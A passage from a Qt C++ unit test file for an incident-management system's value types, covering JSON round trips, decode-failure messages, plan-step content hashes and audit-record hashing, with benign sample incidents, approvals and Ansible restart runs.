// Unit tests of the domain value types: JSON round trips, decode failures,
// incident submissions, plan-step content hashes and the canonical form of
// audit records.

#include "auditevent.h"
#include "classification.h"
#include "compactjson.h"
#include "enums.h"
#include "execution.h"
#include "incident.h"
#include "incidentrecord.h"
#include "jsonreader.h"
#include "plan.h"
#include "user.h"

#include <QCryptographicHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRandomGenerator>
#include <QTest>

#include <cmath>
#include <functional>
#include <limits>
#include <optional>

using namespace Qt::StringLiterals;
using namespace warroom;

/// Decodes a JSON object as one value type and returns the refusal, if any.
struct Decoder
{
    std::function<std::optional<Error>(const QJsonObject &)> decode;
};
Q_DECLARE_METATYPE(Decoder)

/// Changes one field of a plan step.
struct StepChange
{
    std::function<void(PlanStep &)> apply;
};
Q_DECLARE_METATYPE(StepChange)
Q_DECLARE_METATYPE(warroom::Incident)

namespace {

// --- helpers ----------------------------------------------------------------

QDateTime utc(int hour, int minute, int second, int ms)
{
    return QDateTime(QDate(2024, 3, 1), QTime(hour, minute, second, ms), Qt::UTC);
}

QByteArray compact(const QJsonObject &json)
{
    return QJsonDocument(json).toJson(QJsonDocument::Compact);
}

/// A string of any UTF-16 code units, shorter than `below` (control
/// characters, surrogates paired and not, quotes and backslashes weighted up).
QString randomText(QRandomGenerator &rng, int below)
{
    static const char16_t kSpecial[] = {u'"', u'\\', u'/', 0x00, 0x1f, 0x7f, 0xD83D, 0xDEA8, 0xFFFF, 0x2028};
    QString t;
    const int n = rng.bounded(below);
    for (int k = 0; k < n; ++k) {
        const int pick = rng.bounded(4);
        t.append(QChar(pick == 0       ? kSpecial[rng.bounded(int(std::size(kSpecial)))]
                           : pick == 1 ? char16_t(rng.bounded(0x10000))
                                       : char16_t(0x20 + rng.bounded(0x5f))));
    }
    return t;
}

/// A UTC time of any millisecond from 1938 to 2191, or (one in `nullOneIn`) none.
QDateTime randomTime(QRandomGenerator &rng, int nullOneIn)
{
    return rng.bounded(nullOneIn) == 0
        ? QDateTime()
        : QDateTime::fromMSecsSinceEpoch(qint64(rng.generate64() % 8'000'000'000'000ULL) - 1'000'000'000'000LL,
                                         Qt::UTC);
}

QJsonObject with(QJsonObject json, const QString &key, const QJsonValue &value)
{
    json.insert(key, value);
    return json;
}

QJsonObject without(QJsonObject json, const QString &key)
{
    json.remove(key);
    return json;
}

template<typename T> QByteArray errorText(const Expected<T> &result)
{
    return result ? QByteArray() : result.error().message.toUtf8();
}

template<typename T> Decoder decoderOf()
{
    return Decoder {[](const QJsonObject &json) -> std::optional<Error> {
        const Expected<T> result = T::fromJson(json);
        if (result)
            return std::nullopt;
        return result.error();
    }};
}

/// toJson -> text -> fromJson gives an equal value and the same JSON again.
template<typename T> void checkRoundTrip(const T &value)
{
    const QJsonObject json = value.toJson();
    const QJsonObject reparsed = QJsonDocument::fromJson(compact(json)).object();
    const Expected<T> decoded = T::fromJson(reparsed);
    QVERIFY2(decoded.hasValue(), errorText(decoded).constData());
    QCOMPARE(compact(decoded->toJson()), compact(json));
    QVERIFY(*decoded == value);
}

// --- fully populated sample values -----------------------------------------------

Incident sampleIncident()
{
    Incident i;
    i.id = 42;
    i.externalId = u"am-7f3a9c"_s;
    i.title = u"Checkout returns \"502\" for EU users"_s;
    i.description = u"Line one\nLine two\twith a tab, a \\ and unicode: é 日本 🚨"_s;
    i.service = u"checkout-web"_s;
    i.priority = u"P1"_s;
    i.source = u"alertmanager"_s;
    i.owner = u"alice"_s;
    i.reportedBy = u"pagerduty-bridge"_s;
    i.state = IncidentState::AwaitingApproval;
    i.severity = Severity::Sev1;
    i.restricted = true;
    i.labels = QJsonObject {{u"team"_s, u"payments"_s}, {u"region"_s, u"eu-west-1"_s}};
    i.eventCount = 7;
    i.sourceStatus = u"resolved"_s;
    i.flapCount = 2;
    i.flapping = true;
    i.lastEventAt = utc(13, 0, 59, 1);
    i.createdAt = utc(12, 34, 56, 789);
    i.updatedAt = utc(13, 1, 2, 3);
    return i;
}

Reason sampleReason()
{
    Reason r;
    r.signal = u"phrase \"redirect loop\""_s;
    r.weight = 0.375;
    r.source = u"kba:KBA-0117"_s;
    return r;
}

RunnerUp sampleRunnerUp()
{
    RunnerUp r;
    r.category = u"dns-outage"_s;
    r.score = 0.31;
    return r;
}

Classification sampleClassification()
{
    Classification c;
    c.category = u"web-redirect-loop"_s;
    c.severity = Severity::Sev2;
    c.mimRequired = true;
    c.confidence = 0.87;
    Reason priority;
    priority.signal = u"priority P1"_s;
    priority.weight = 0.25;
    priority.source = u"priority"_s;
    c.reasons = {sampleReason(), priority};
    RunnerUp cert;
    cert.category = u"cert-expiry"_s;
    cert.score = 0.12;
    c.runnersUp = {sampleRunnerUp(), cert};
    c.analyst = u"anthropic:claude-test"_s;
    return c;
}

KnowledgeMatch sampleMatch()
{
    KnowledgeMatch m;
    m.docId = u"KBA-0117"_s;
    m.kind = u"kba"_s;
    m.title = u"Redirect loops after a config push"_s;
    m.score = 0.64;
    m.matchedTerms = {u"redirect"_s, u"loop"_s, u"checkout"_s};
    return m;
}

PlanStep sampleStep()
{
    PlanStep s;
    s.id = u"s3"_s;
    s.kind = StepKind::Remediate;
    s.title = u"Restart checkout-web"_s;
    s.description = u"Rolling restart, one node at a time"_s;
    s.playbookId = u"restart-service"_s;
    s.vars = QJsonObject {
        {u"service"_s, u"checkout-web"_s}, {u"batch"_s, 2}, {u"hosts"_s, QJsonArray {u"web-1"_s, u"web-2"_s}}};
    s.risk = Risk::High;
    s.environment = u"prod"_s;
    s.requiredRoles = {u"change-approver"_s, u"mim"_s};
    s.mutates = true;
    s.rollbackOf = QString();
    s.owner = u"carol"_s;
    s.dueAt = utc(14, 0, 0, 500);
    s.state = StepState::Succeeded;
    s.requestedBy = u"carol"_s;
    s.startedAt = utc(13, 10, 0, 1);
    s.finishedAt = utc(13, 12, 30, 999);
    s.resultSummary = u"2 hosts changed"_s;
    return s;
}

PlanStep sampleRollback()
{
    PlanStep s;
    s.id = u"r3"_s;
    s.kind = StepKind::Rollback;
    s.title = u"Revert the restart"_s;
    s.description = u"Bring back the previous revision"_s;
    s.playbookId = u"restart-service"_s;
    s.vars = QJsonObject {{u"revision"_s, u"previous"_s}};
    s.risk = Risk::Medium;
    s.environment = u"prod"_s;
    s.requiredRoles = {u"mim"_s};
    s.mutates = true;
    s.rollbackOf = u"s3"_s;
    s.owner = u"alice"_s;
    s.dueAt = utc(15, 0, 0, 250);
    s.state = StepState::Pending;
    s.requestedBy = u"alice"_s;
    return s;
}

Plan samplePlan()
{
    Plan p;
    p.source = u"dip:DIP-12"_s;
    p.summary = u"Restart the web tier, then validate"_s;
    p.createdBy = u"warroomd"_s;
    p.createdAt = utc(12, 40, 0, 120);
    p.steps = {sampleStep(), sampleRollback()};
    return p;
}

Approval sampleApproval()
{
    Approval a;
    a.stepId = u"s3"_s;
    a.user = u"bob"_s;
    a.roles = {u"change-approver"_s};
    a.decision = Decision::Approve;
    a.comment = u"Looks right; \"rolling\" please"_s;
    a.contentHash = sampleStep().contentHash();
    a.at = utc(13, 5, 6, 78);
    return a;
}

Approval sampleRejection()
{
    Approval a = sampleApproval();
    a.user = u"erin"_s;
    a.decision = Decision::Reject;
    a.comment = u"Not during peak"_s;
    a.at = utc(13, 6, 0, 1);
    return a;
}

TaskResult sampleTask()
{
    TaskResult t;
    t.host = u"web-1"_s;
    t.task = u"restart service"_s;
    t.status = u"changed"_s;
    t.durationMs = 1234;
    t.diff = u"--- before\n+++ after\n-state: stopped\n+state: started\n"_s;
    t.output = u"restarted web\n"_s;
    return t;
}

ExecutionPhase samplePhase(const QString &name)
{
    ExecutionPhase p;
    p.name = name;
    p.playbookId = u"service-rolling-restart"_s;
    p.argv = {u"/usr/bin/ansible-playbook"_s, u"--check"_s, u"-e"_s, u"{\"service\":\"web\"}"_s};
    p.playbookSha256 = QString(64, u'a');
    p.startedAt = utc(13, 10, 0, 10);
    p.finishedAt = utc(13, 10, 42, 420);
    p.exitCode = 2;
    p.outcome = u"changed"_s;
    p.changed = 1;
    TaskResult other = sampleTask();
    other.host = u"web-2"_s;
    other.status = u"ok"_s;
    other.diff.clear();
    p.tasks = {sampleTask(), other};
    p.stdoutTail = u"PLAY RECAP\nweb-1 : ok=3 changed=1\n"_s;
    p.stderrTail = u"[WARNING]: é\n"_s;
    return p;
}

ExecutionRun sampleRun()
{
    ExecutionRun r;
    r.id = u"run-0001"_s;
    r.stepId = u"s3"_s;
    r.mode = u"apply"_s;
    r.environment = u"prod"_s;
    r.startedAt = utc(13, 10, 0, 1);
    r.finishedAt = utc(13, 12, 30, 999);
    r.outcome = u"succeeded"_s;
    r.playbookId = u"service-rolling-restart"_s;
    r.message = u"validation passed"_s;
    r.phases = {samplePhase(u"check"_s), samplePhase(u"apply"_s)};
    return r;
}

Evidence sampleEvidence()
{
    Evidence e;
    e.id = 9001;
    e.incidentId = 42;
    e.stepId = u"s3"_s;
    e.runId = u"run-0001"_s;
    e.kind = u"diff"_s;
    e.title = u"Config diff on web-1"_s;
    e.content = u"-a\n+b\n"_s;
    e.sha256 = QString::fromLatin1(QCryptographicHash::hash(e.content.toUtf8(), QCryptographicHash::Sha256).toHex());
    e.createdBy = u"warroomd"_s;
    e.createdAt = utc(13, 12, 31, 5);
    return e;
}

AuditEvent sampleAuditEvent()
{
    AuditEvent e;
    e.seq = 17;
    e.time = utc(13, 5, 6, 78);
    e.actor = u"bob"_s;
    e.incidentId = 42;
    e.type = u"step.approved"_s;
    e.payload = AuditEvent::canonicalPayload(QJsonObject {
        {u"approval"_s, sampleApproval().toJson()}, {u"approvals"_s, 1}, {u"needed"_s, 2}, {u"satisfied"_s, false}});
    e.prevHash = QString(kGenesisHash);
    e.hash = e.computeHash();
    return e;
}

User sampleUser()
{
    User u;
    u.name = u"bob"_s;
    u.displayName = u"Bob Approver"_s;
    u.roles = {u"change-approver"_s, u"responder"_s};
    return u;
}

IncidentRecord sampleRecord()
{
    IncidentRecord r;
    r.incident = sampleIncident();
    r.classification = sampleClassification();
    KnowledgeMatch past = sampleMatch();
    past.docId = u"incident:17"_s;
    past.kind = u"incident"_s;
    past.matchedTerms = {u"checkout"_s};
    r.matches = {sampleMatch(), past};
    r.plan = samplePlan();
    r.approvals = {sampleApproval(), sampleRejection()};
    r.runs = {sampleRun()};
    return r;
}

} // namespace

class TestModelsJson final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    // JSON round trips of every value type
    void roundTripIncident();
    void roundTripReason();
    void roundTripRunnerUp();
    void roundTripClassification();
    void roundTripKnowledgeMatch();
    void roundTripPlanStep();
    void roundTripPlan();
    void roundTripApproval();
    void roundTripTaskResult();
    void roundTripExecutionPhase();
    void roundTripExecutionRun();
    void roundTripEvidence();
    void roundTripAuditEvent();
    void roundTripUser();
    void roundTripIncidentRecord();
    void roundTripIncidentRecordWithoutClassification();
    void timesAreUtcWithMilliseconds();

    // decode failures
    void decodeFailure_data();
    void decodeFailure();

    // submissions
    void submissionMinimal();
    void submissionFull();
    void submissionTitleAtLimit();
    void submissionRejected_data();
    void submissionRejected();

    // plan steps
    void contentHashChangesWithContent_data();
    void contentHashChangesWithContent();
    void contentHashIgnoresLife_data();
    void contentHashIgnoresLife();
    void contentHashIsSha256OfCanonicalContent();
    void stepJsonCarriesHashAndApprovalsNeeded();
    void stepIsMutating_data();
    void stepIsMutating();

    // audit records
    void auditCanonicalMatchesQt_data();
    void auditCanonicalMatchesQt();
    void auditComputeHash_data();
    void auditComputeHash();
    void auditHashChainDetectsTampering();
    void auditCanonicalPayloadIsSortedAndCompact();
    void incidentCompactJsonMatchesQt_data();
    void incidentCompactJsonMatchesQt();
    void incidentCompactJsonMatchesQtOnRandomIncidents();
    void classificationCompactJsonMatchesQt();
    void compactValueAloneIsAsWrittenNested_data();
    void compactValueAloneIsAsWrittenNested();
    void compactValuesMatchQtOnRandomTrees();
    void classificationCompactJsonMatchesQtOnRandomValues();
    void planCompactJsonMatchesQt();
    void planCompactJsonMatchesQtOnRandomPlans();

    // small things
    void enumNames_data();
    void enumNames();
    void unknownEnumNames_data();
    void unknownEnumNames();
    void userRoles();
    void incidentKey();
};

// --- round trips ------------------------------------------------------------------

void TestModelsJson::roundTripIncident()
{
    checkRoundTrip(sampleIncident());
}
void TestModelsJson::roundTripReason()
{
    checkRoundTrip(sampleReason());
}
void TestModelsJson::roundTripRunnerUp()
{
    checkRoundTrip(sampleRunnerUp());
}
void TestModelsJson::roundTripClassification()
{
    checkRoundTrip(sampleClassification());
}
void TestModelsJson::roundTripKnowledgeMatch()
{
    checkRoundTrip(sampleMatch());
}

void TestModelsJson::roundTripPlanStep()
{
    checkRoundTrip(sampleStep());
    if (QTest::currentTestFailed())
        return;
    checkRoundTrip(sampleRollback());
}

void TestModelsJson::roundTripPlan()
{
    checkRoundTrip(samplePlan());
}

void TestModelsJson::roundTripApproval()
{
    checkRoundTrip(sampleApproval());
    if (QTest::currentTestFailed())
        return;
    checkRoundTrip(sampleRejection());
}

void TestModelsJson::roundTripTaskResult()
{
    checkRoundTrip(sampleTask());
}
void TestModelsJson::roundTripExecutionPhase()
{
    checkRoundTrip(samplePhase(u"apply"_s));
}
void TestModelsJson::roundTripExecutionRun()
{
    checkRoundTrip(sampleRun());
}
void TestModelsJson::roundTripEvidence()
{
    checkRoundTrip(sampleEvidence());
}

void TestModelsJson::roundTripAuditEvent()
{
    const AuditEvent event = sampleAuditEvent();
    checkRoundTrip(event);
    if (QTest::currentTestFailed())
        return;
    // The payload travels as an object and comes back as the same canonical text,
    // so the decoded record still verifies.
    const Expected<AuditEvent> decoded = AuditEvent::fromJson(event.toJson());
    QVERIFY(decoded);
    QCOMPARE(decoded->payload, event.payload);
    QCOMPARE(decoded->computeHash(), event.hash);
}

void TestModelsJson::roundTripUser()
{
    checkRoundTrip(sampleUser());
}
void TestModelsJson::roundTripIncidentRecord()
{
    checkRoundTrip(sampleRecord());
}

void TestModelsJson::roundTripIncidentRecordWithoutClassification()
{
    IncidentRecord record = sampleRecord();
    record.classification.reset();
    record.plan = Plan();
    record.approvals.clear();
    record.runs.clear();
    QVERIFY(record.toJson().value(u"classification"_s).isNull());
    checkRoundTrip(record);
}

void TestModelsJson::timesAreUtcWithMilliseconds()
{
    const QJsonObject json = sampleIncident().toJson();
    QCOMPARE(json.value(u"created_at"_s).toString(), u"2024-03-01T12:34:56.789Z"_s);
    QCOMPARE(json.value(u"updated_at"_s).toString(), u"2024-03-01T13:01:02.003Z"_s);

    // A time given with an offset is written as the same instant in UTC.
    const QDateTime plusTwo(QDate(2024, 3, 1), QTime(14, 34, 56, 789), Qt::OffsetFromUTC, 7200);
    QCOMPARE(toIsoTime(plusTwo), u"2024-03-01T12:34:56.789Z"_s);
    QCOMPARE(toIsoTime(QDateTime()), QString());

    // ... and read back as UTC.
    const Expected<Incident> decoded
        = Incident::fromJson(with(json, u"created_at"_s, u"2024-03-01T14:34:56.789+02:00"_s));
    QVERIFY2(decoded, errorText(decoded).constData());
    QCOMPARE(decoded->createdAt, utc(12, 34, 56, 789));
    QCOMPARE(decoded->createdAt.timeSpec(), Qt::UTC);
}

// --- decode failures --------------------------------------------------------------------

void TestModelsJson::decodeFailure_data()
{
    QTest::addColumn<Decoder>("decoder");
    QTest::addColumn<QJsonObject>("json");
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("problem");

    const QString tooLong64 = QString(65, u'x');
    const QString tooLong200 = QString(201, u'x');
    const QString tooLong500 = QString(501, u'x');

    const QJsonObject incident = sampleIncident().toJson();
    QTest::newRow("Incident: id is a string")
        << decoderOf<Incident>() << with(incident, u"id"_s, u"42"_s) << u"incident.id"_s << u"must be an integer"_s;
    QTest::newRow("Incident: id has a fraction")
        << decoderOf<Incident>() << with(incident, u"id"_s, 4.5) << u"incident.id"_s << u"must be an integer"_s;
    QTest::newRow("Incident: id is far out of range")
        << decoderOf<Incident>() << with(incident, u"id"_s, 1e300) << u"incident.id"_s << u"must be an integer"_s;
    QTest::newRow("Incident: title is a number")
        << decoderOf<Incident>() << with(incident, u"title"_s, 5) << u"incident.title"_s << u"must be a string"_s;
    QTest::newRow("Incident: unknown state") << decoderOf<Incident>() << with(incident, u"state"_s, u"sleeping"_s)
                                             << u"incident.state"_s << u"unknown value \"sleeping\""_s;
    QTest::newRow("Incident: state in the wrong case")
        << decoderOf<Incident>() << with(incident, u"state"_s, u"Resolved"_s) << u"incident.state"_s
        << u"unknown value"_s;
    QTest::newRow("Incident: unknown severity") << decoderOf<Incident>() << with(incident, u"severity"_s, u"SEV9"_s)
                                                << u"incident.severity"_s << u"unknown value \"SEV9\""_s;
    QTest::newRow("Incident: restricted is a string")
        << decoderOf<Incident>() << with(incident, u"restricted"_s, u"yes"_s) << u"incident.restricted"_s
        << u"must be true or false"_s;
    QTest::newRow("Incident: labels is an array")
        << decoderOf<Incident>() << with(incident, u"labels"_s, QJsonArray {u"a"_s}) << u"incident.labels"_s
        << u"must be an object"_s;
    QTest::newRow("Incident: created_at is not a time")
        << decoderOf<Incident>() << with(incident, u"created_at"_s, u"yesterday"_s) << u"incident.created_at"_s
        << u"must be an ISO 8601 time"_s;
    QTest::newRow("Incident: event_count is a string")
        << decoderOf<Incident>() << with(incident, u"event_count"_s, u"7"_s) << u"incident.event_count"_s
        << u"must be an integer"_s;
    QTest::newRow("Incident: unknown source_status")
        << decoderOf<Incident>() << with(incident, u"source_status"_s, u"sleeping"_s) << u"incident.source_status"_s
        << u"must be firing, acknowledged or resolved"_s;
    QTest::newRow("Incident: flap_count is a string")
        << decoderOf<Incident>() << with(incident, u"flap_count"_s, u"2"_s) << u"incident.flap_count"_s
        << u"must be an integer"_s;
    QTest::newRow("Incident: flapping is a number") << decoderOf<Incident>() << with(incident, u"flapping"_s, 1)
                                                    << u"incident.flapping"_s << u"must be true or false"_s;
    QTest::newRow("Incident: last_event_at is not a time")
        << decoderOf<Incident>() << with(incident, u"last_event_at"_s, u"soon"_s) << u"incident.last_event_at"_s
        << u"must be an ISO 8601 time"_s;

    const QJsonObject reason = sampleReason().toJson();
    QTest::newRow("Reason: signal missing")
        << decoderOf<Reason>() << without(reason, u"signal"_s) << u"reason.signal"_s << u"is required"_s;
    QTest::newRow("Reason: signal blank")
        << decoderOf<Reason>() << with(reason, u"signal"_s, u"  "_s) << u"reason.signal"_s << u"must not be empty"_s;
    QTest::newRow("Reason: weight is a string")
        << decoderOf<Reason>() << with(reason, u"weight"_s, u"0.4"_s) << u"reason.weight"_s << u"must be a number"_s;

    const QJsonObject runnerUp = sampleRunnerUp().toJson();
    QTest::newRow("RunnerUp: category missing")
        << decoderOf<RunnerUp>() << without(runnerUp, u"category"_s) << u"runner_up.category"_s << u"is required"_s;
    QTest::newRow("RunnerUp: score is a bool")
        << decoderOf<RunnerUp>() << with(runnerUp, u"score"_s, true) << u"runner_up.score"_s << u"must be a number"_s;

    const QJsonObject classification = sampleClassification().toJson();
    QTest::newRow("Classification: confidence above 1")
        << decoderOf<Classification>() << with(classification, u"confidence"_s, 1.5) << u"classification.confidence"_s
        << u"between 0 and 1"_s;
    QTest::newRow("Classification: confidence below 0")
        << decoderOf<Classification>() << with(classification, u"confidence"_s, -0.01) << u"classification.confidence"_s
        << u"between 0 and 1"_s;
    QTest::newRow("Classification: confidence is a string")
        << decoderOf<Classification>() << with(classification, u"confidence"_s, u"high"_s)
        << u"classification.confidence"_s << u"must be a number"_s;
    QTest::newRow("Classification: unknown severity")
        << decoderOf<Classification>() << with(classification, u"severity"_s, u"SEV0"_s) << u"classification.severity"_s
        << u"unknown value \"SEV0\""_s;
    QTest::newRow("Classification: mim_required is a number")
        << decoderOf<Classification>() << with(classification, u"mim_required"_s, 1) << u"classification.mim_required"_s
        << u"must be true or false"_s;
    QTest::newRow("Classification: reasons is an object")
        << decoderOf<Classification>() << with(classification, u"reasons"_s, QJsonObject())
        << u"classification.reasons"_s << u"must be an array"_s;
    QTest::newRow("Classification: reasons holds a string")
        << decoderOf<Classification>() << with(classification, u"reasons"_s, QJsonArray {u"text"_s})
        << u"classification.reasons"_s << u"must be an array of objects"_s;
    QTest::newRow("Classification: a reason without signal")
        << decoderOf<Classification>() << with(classification, u"reasons"_s, QJsonArray {without(reason, u"signal"_s)})
        << u"reason.signal"_s << u"is required"_s;
    QTest::newRow("Classification: a runner-up without category")
        << decoderOf<Classification>()
        << with(classification, u"runners_up"_s, QJsonArray {without(runnerUp, u"category"_s)})
        << u"classification.runners_up"_s << u"has an invalid item"_s;

    const QJsonObject match = sampleMatch().toJson();
    QTest::newRow("KnowledgeMatch: doc_id missing")
        << decoderOf<KnowledgeMatch>() << without(match, u"doc_id"_s) << u"match.doc_id"_s << u"is required"_s;
    QTest::newRow("KnowledgeMatch: matched_terms holds a number")
        << decoderOf<KnowledgeMatch>() << with(match, u"matched_terms"_s, QJsonArray {u"a"_s, 2})
        << u"match.matched_terms"_s << u"must be an array of strings"_s;
    QTest::newRow("KnowledgeMatch: matched_terms is a string")
        << decoderOf<KnowledgeMatch>() << with(match, u"matched_terms"_s, u"a"_s) << u"match.matched_terms"_s
        << u"must be an array of strings"_s;

    const QJsonObject step = sampleStep().toJson();
    QTest::newRow("PlanStep: id missing")
        << decoderOf<PlanStep>() << without(step, u"id"_s) << u"step.id"_s << u"is required"_s;
    QTest::newRow("PlanStep: id null") << decoderOf<PlanStep>() << with(step, u"id"_s, QJsonValue()) << u"step.id"_s
                                       << u"is required"_s;
    QTest::newRow("PlanStep: id blank") << decoderOf<PlanStep>() << with(step, u"id"_s, u" "_s) << u"step.id"_s
                                        << u"must not be empty"_s;
    QTest::newRow("PlanStep: id over 64 characters")
        << decoderOf<PlanStep>() << with(step, u"id"_s, tooLong64) << u"step.id"_s << u"is longer than 64 characters"_s;
    QTest::newRow("PlanStep: kind missing")
        << decoderOf<PlanStep>() << without(step, u"kind"_s) << u"step.kind"_s << u"is required"_s;
    QTest::newRow("PlanStep: unknown kind") << decoderOf<PlanStep>() << with(step, u"kind"_s, u"reboot"_s)
                                            << u"step.kind"_s << u"unknown value \"reboot\""_s;
    QTest::newRow("PlanStep: title missing")
        << decoderOf<PlanStep>() << without(step, u"title"_s) << u"step.title"_s << u"is required"_s;
    QTest::newRow("PlanStep: title over 500 characters") << decoderOf<PlanStep>() << with(step, u"title"_s, tooLong500)
                                                         << u"step.title"_s << u"is longer than 500 characters"_s;
    QTest::newRow("PlanStep: unknown risk") << decoderOf<PlanStep>() << with(step, u"risk"_s, u"extreme"_s)
                                            << u"step.risk"_s << u"unknown value \"extreme\""_s;
    QTest::newRow("PlanStep: unknown state") << decoderOf<PlanStep>() << with(step, u"state"_s, u"approved"_s)
                                             << u"step.state"_s << u"unknown value \"approved\""_s;
    QTest::newRow("PlanStep: vars is a string")
        << decoderOf<PlanStep>() << with(step, u"vars"_s, u"a=b"_s) << u"step.vars"_s << u"must be an object"_s;
    QTest::newRow("PlanStep: mutates is a string") << decoderOf<PlanStep>() << with(step, u"mutates"_s, u"true"_s)
                                                   << u"step.mutates"_s << u"must be true or false"_s;
    QTest::newRow("PlanStep: unknown required role")
        << decoderOf<PlanStep>() << with(step, u"required_roles"_s, QJsonArray {u"mim"_s, u"superuser"_s})
        << u"step.required_roles"_s << u"unknown role \"superuser\""_s;
    QTest::newRow("PlanStep: the internal system role is not assignable")
        << decoderOf<PlanStep>() << with(step, u"required_roles"_s, QJsonArray {u"system"_s})
        << u"step.required_roles"_s << u"unknown role \"system\""_s;
    QTest::newRow("PlanStep: required_roles holds a number")
        << decoderOf<PlanStep>() << with(step, u"required_roles"_s, QJsonArray {3}) << u"step.required_roles"_s
        << u"must be an array of strings"_s;
    QTest::newRow("PlanStep: more than 10 required roles")
        << decoderOf<PlanStep>()
        << with(step, u"required_roles"_s, QJsonArray::fromStringList(QStringList(11, u"mim"_s)))
        << u"step.required_roles"_s << u"has more than 10 items"_s;
    QTest::newRow("PlanStep: due_at is not a time") << decoderOf<PlanStep>() << with(step, u"due_at"_s, u"tomorrow"_s)
                                                    << u"step.due_at"_s << u"must be an ISO 8601 time"_s;
    QTest::newRow("PlanStep: playbook over 200 characters")
        << decoderOf<PlanStep>() << with(step, u"playbook"_s, tooLong200) << u"step.playbook"_s
        << u"is longer than 200 characters"_s;

    const QJsonObject plan = samplePlan().toJson();
    QTest::newRow("Plan: duplicate step ids") << decoderOf<Plan>() << with(plan, u"steps"_s, QJsonArray {step, step})
                                              << u"plan.steps"_s << u"has the step id \"s3\" twice"_s;
    QTest::newRow("Plan: steps is an object")
        << decoderOf<Plan>() << with(plan, u"steps"_s, step) << u"plan.steps"_s << u"must be an array"_s;
    QTest::newRow("Plan: a step with an unknown kind")
        << decoderOf<Plan>() << with(plan, u"steps"_s, QJsonArray {with(step, u"kind"_s, u"reboot"_s)})
        << u"step.kind"_s << u"unknown value \"reboot\""_s;
    QTest::newRow("Plan: created_at is a number") << decoderOf<Plan>() << with(plan, u"created_at"_s, 1709296800)
                                                  << u"plan.created_at"_s << u"must be a string"_s;

    const QJsonObject approval = sampleApproval().toJson();
    QTest::newRow("Approval: step missing")
        << decoderOf<Approval>() << without(approval, u"step"_s) << u"approval.step"_s << u"is required"_s;
    QTest::newRow("Approval: user missing")
        << decoderOf<Approval>() << without(approval, u"user"_s) << u"approval.user"_s << u"is required"_s;
    QTest::newRow("Approval: decision missing")
        << decoderOf<Approval>() << without(approval, u"decision"_s) << u"approval.decision"_s << u"is required"_s;
    QTest::newRow("Approval: unknown decision") << decoderOf<Approval>() << with(approval, u"decision"_s, u"maybe"_s)
                                                << u"approval.decision"_s << u"unknown value \"maybe\""_s;
    QTest::newRow("Approval: content_hash missing") << decoderOf<Approval>() << without(approval, u"content_hash"_s)
                                                    << u"approval.content_hash"_s << u"is required"_s;
    QTest::newRow("Approval: content_hash over 64 characters")
        << decoderOf<Approval>() << with(approval, u"content_hash"_s, tooLong64) << u"approval.content_hash"_s
        << u"is longer than 64 characters"_s;
    QTest::newRow("Approval: at missing")
        << decoderOf<Approval>() << without(approval, u"at"_s) << u"approval.at"_s << u"is required"_s;
    QTest::newRow("Approval: at is not a time")
        << decoderOf<Approval>() << with(approval, u"at"_s, u"2024-13-45T99:00:00Z"_s) << u"approval.at"_s
        << u"must be an ISO 8601 time"_s;
    QTest::newRow("Approval: comment over 4096 characters")
        << decoderOf<Approval>() << with(approval, u"comment"_s, QString(4097, u'c')) << u"approval.comment"_s
        << u"is longer than 4096 characters"_s;

    const QJsonObject task = sampleTask().toJson();
    QTest::newRow("TaskResult: status missing")
        << decoderOf<TaskResult>() << without(task, u"status"_s) << u"task.status"_s << u"is required"_s;
    QTest::newRow("TaskResult: status over 32 characters")
        << decoderOf<TaskResult>() << with(task, u"status"_s, QString(33, u's')) << u"task.status"_s
        << u"is longer than 32 characters"_s;
    QTest::newRow("TaskResult: duration_ms is a string")
        << decoderOf<TaskResult>() << with(task, u"duration_ms"_s, u"12ms"_s) << u"task.duration_ms"_s
        << u"must be an integer"_s;

    const QJsonObject phase = samplePhase(u"apply"_s).toJson();
    QTest::newRow("ExecutionPhase: name missing")
        << decoderOf<ExecutionPhase>() << without(phase, u"name"_s) << u"phase.name"_s << u"is required"_s;
    QTest::newRow("ExecutionPhase: exit_code has a fraction")
        << decoderOf<ExecutionPhase>() << with(phase, u"exit_code"_s, 1.5) << u"phase.exit_code"_s
        << u"must be an integer"_s;
    QTest::newRow("ExecutionPhase: argv holds a number")
        << decoderOf<ExecutionPhase>() << with(phase, u"argv"_s, QJsonArray {u"ls"_s, 1}) << u"phase.argv"_s
        << u"must be an array of strings"_s;
    QTest::newRow("ExecutionPhase: a task without status")
        << decoderOf<ExecutionPhase>() << with(phase, u"tasks"_s, QJsonArray {without(task, u"status"_s)})
        << u"phase.tasks"_s << u"has an invalid item"_s;

    const QJsonObject run = sampleRun().toJson();
    QTest::newRow("ExecutionRun: id missing")
        << decoderOf<ExecutionRun>() << without(run, u"id"_s) << u"run.id"_s << u"is required"_s;
    QTest::newRow("ExecutionRun: step missing")
        << decoderOf<ExecutionRun>() << without(run, u"step"_s) << u"run.step"_s << u"is required"_s;
    QTest::newRow("ExecutionRun: step over 64 characters")
        << decoderOf<ExecutionRun>() << with(run, u"step"_s, tooLong64) << u"run.step"_s
        << u"is longer than 64 characters"_s;
    QTest::newRow("ExecutionRun: phases is a string")
        << decoderOf<ExecutionRun>() << with(run, u"phases"_s, u"check"_s) << u"run.phases"_s << u"must be an array"_s;
    QTest::newRow("ExecutionRun: a phase without name")
        << decoderOf<ExecutionRun>() << with(run, u"phases"_s, QJsonArray {without(phase, u"name"_s)})
        << u"phase.name"_s << u"is required"_s;

    const QJsonObject evidence = sampleEvidence().toJson();
    QTest::newRow("Evidence: kind missing")
        << decoderOf<Evidence>() << without(evidence, u"kind"_s) << u"evidence.kind"_s << u"is required"_s;
    QTest::newRow("Evidence: kind over 64 characters") << decoderOf<Evidence>() << with(evidence, u"kind"_s, tooLong64)
                                                       << u"evidence.kind"_s << u"is longer than 64 characters"_s;
    QTest::newRow("Evidence: incident_id is a string")
        << decoderOf<Evidence>() << with(evidence, u"incident_id"_s, u"42"_s) << u"evidence.incident_id"_s
        << u"must be an integer"_s;

    const QJsonObject audit = sampleAuditEvent().toJson();
    QTest::newRow("AuditEvent: seq missing")
        << decoderOf<AuditEvent>() << without(audit, u"seq"_s) << u"audit.seq"_s << u"is required"_s;
    QTest::newRow("AuditEvent: seq is a string")
        << decoderOf<AuditEvent>() << with(audit, u"seq"_s, u"17"_s) << u"audit.seq"_s << u"must be an integer"_s;
    QTest::newRow("AuditEvent: time missing")
        << decoderOf<AuditEvent>() << without(audit, u"time"_s) << u"audit.time"_s << u"is required"_s;
